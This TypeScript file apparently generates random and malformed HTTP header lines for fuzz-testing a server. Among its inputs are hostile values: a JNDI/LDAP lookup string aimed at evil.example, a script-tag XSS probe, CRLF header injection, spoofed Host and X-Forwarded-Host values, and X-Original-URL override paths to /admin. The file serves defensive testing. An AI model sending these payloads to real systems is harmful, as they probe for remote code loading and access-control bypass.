import type { Chance } from '../chance.ts';
import type { Known } from '../known.ts';
import { cookieLine } from './cookies.ts';

/** Header lines, each without its end; `Host` is among them unless left out on purpose. */
export function anyHeaders(chance: Chance, known: Known, port: number): string[] {
  const lines = [hostLine(chance, known, port)];
  if (chance.often(0.6)) lines.push(`User-Agent: ${agent(chance)}`);
  if (chance.often(0.4)) lines.push(`Accept-Language: ${languages(chance)}`);
  if (chance.often(0.5)) lines.push(`Cookie: ${cookieLine(chance, known)}`);
  if (chance.often(0.5)) lines.push(...oddLines(chance));
  return lines.filter((line) => line !== '');
}

/** What a browser of ours sends. */
export function plainHeaders({ publicName }: Known, port: number): string[] {
  return [
    `Host: ${publicName}:${port}`,
    `Origin: https://${publicName}:${port}`,
    'Accept-Language: fr, en;q=0.5',
  ];
}

function hostLine(chance: Chance, { publicName }: Known, port: number): string {
  const right = `Host: ${publicName}:${port}`;
  if (chance.often(0.8)) return right;
  return chance.of([
    '',
    'Host:',
    'Host: ',
    `${right}\r\n${right}`,
    `${right}\r\nHost: evil.example`,
    'Host: evil.example',
    `Host: ${publicName}:1`,
    `Host: ${publicName}:99999`,
    `Host: user@${publicName}:${port}`,
    `Host: ${publicName}:${port}/path`,
    `Host: ${publicName}.:${port}`,
    'Host: [::1]',
    'Host: [::1',
    'Host: 127.0.0.1',
    'Host: 2130706433',
    `Host: ${'a'.repeat(300)}.example`,
    `Host: ${chance.bytes(12)}`,
    `Host: ${publicName},${publicName}`,
    `Host:\t${publicName}:${port}`,
    `host : ${publicName}:${port}`,
  ]);
}

function agent(chance: Chance): string {
  return chance.of([
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) Version/18.6 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0.0.0 Safari/537.36 Edg/141.0',
    'Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 Chrome/141.0.0.0 Safari/537.36',
    '',
    `Mozilla/5.0 (${'('.repeat(200)}`,
    `${'Version/1 '.repeat(300)}`,
    `Mozilla/5.0 (Linux; Android ${'9'.repeat(400)})`,
    'jndi:ldap://evil.example/a',
    '<script>alert(1)</script>',
    `${chance.word(30)}/${chance.below(99)}`,
    chance.bytes(60),
  ]);
}

function languages(chance: Chance): string {
  return chance.of([
    'fr-CA, fr;q=0.9, en;q=0.1',
    '*',
    'en;q=2, fr;q=NaN',
    'fr;q=-1,en;q=1e999',
    ','.repeat(400),
    'x'.repeat(600),
    'en-US-u-nu-arab;q=;q=;;',
    chance.bytes(30),
  ]);
}

/** Lines that no browser sends, or not so. */
function oddLines(chance: Chance): string[] {
  const odd = (): string[] =>
    chance.of<() => string[]>([
      () => Array.from({ length: chance.of([10, 45, 49, 60, 100, 500]) }, (_, at) => `X-${at}: ${at}`),
      () => [`X-Large: ${'a'.repeat(chance.of([1000, 7000, 8200, 9000, 20_000, 70_000]))}`],
      () => [`${chance.word(3)}\u0000: a`],
      () => [`X-Null: a\u0000b`],
      () => ['X-Folded: a', ' b', '\tc'],
      () => [`X-Split: a\r\nX-Injected: b`],
      () => [`X-Bare: a\nX-Bare-Two: b`],
      () => [`X-Return: a\rb`],
      () => [': no name'],
      () => ['No colon'],
      () => [`X ${chance.word(2)}: space in the name`],
      () => [`X-Raw: ${chance.bytes(40)}`],
      () => ['Expect: 100-continue'],
      () => ['Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='],
      () => ['Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__'],
      () => ['Connection: close, keep-alive, Host, Cookie'],
      () => [
        'X-Forwarded-For: 1.2.3.4',
        'X-Forwarded-Host: evil.example',
        'Forwarded: for=1.2.3.4;host=evil',
      ],
      () => ['X-Original-URL: /admin', 'X-Rewrite-URL: /admin', 'X-HTTP-Method-Override: DELETE'],
      () => ['Range: bytes=0-0,5-,-1', 'If-Range: x', 'If-Modified-Since: never'],
      () => ['Sec-CH-UA-Platform: "Android"', `Sec-CH-UA-Platform: ${chance.word(80)}`],
      () => ['Sec-Fetch-Site: same-origin', 'Sec-Fetch-Site: cross-site'],
      () => [`Origin: ${chance.of(['null', 'https://evil.example', 'x'.repeat(500)])}`],
      () => [`Accept-Encoding: ${chance.of(['gzip, br', 'identity;q=0', '*;q=0'])}`],
      () => ['Transfer-Encoding: identity'],
      () => ['Authorization: Basic YTpi', 'Proxy-Authorization: Basic YTpi'],
    ])();
  return Array.from({ length: 1 + chance.below(2) }, odd).flat();
}
